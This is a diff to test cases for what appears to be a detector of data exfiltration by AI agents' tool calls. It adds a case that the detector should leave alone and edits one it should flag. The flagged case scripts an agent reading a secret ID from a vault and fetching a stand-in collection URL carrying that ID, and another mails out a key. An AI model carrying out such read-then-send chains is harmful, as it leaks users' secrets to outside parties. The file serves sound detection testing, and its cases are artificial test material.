@@ -63,7 +63,7 @@ def a_key_from_a_file_in_a_mail(scene: Scene) -> None:
 @fires("chain/exfiltration")
 def an_id_from_the_vault_in_an_address(scene: Scene) -> None:
     story = Story(scene)
-    story.call("read_secrets", {"content": [], "structuredContent": {"id": ID}}, session="", upstream="vault")
+    story.call("read_secrets", {"content": [], "structuredContent": {"value": ID}}, session="", upstream="vault")
     story.call("fetch", url=f"https://collect.example/?x={ID}", session="s9", upstream="web")
 
 
@@ -101,6 +101,13 @@ def a_key_that_the_caller_sent_itself(scene: Scene) -> None:
     story = Story(scene)
     story.call("read_file", f"you gave {KEY}", key=KEY)
     story.call("send_mail", text=KEY)
+
+
+@spares("chain/exfiltration")
+def the_number_of_a_project_that_the_vault_names(scene: Scene) -> None:
+    story = Story(scene)
+    story.call("read_secrets", {"content": [], "structuredContent": {"projectId": ID}}, upstream="vault")
+    story.call("fetch", url=f"https://api.example/projects/{ID}", upstream="web")
 
 
 @spares("chain/exfiltration")
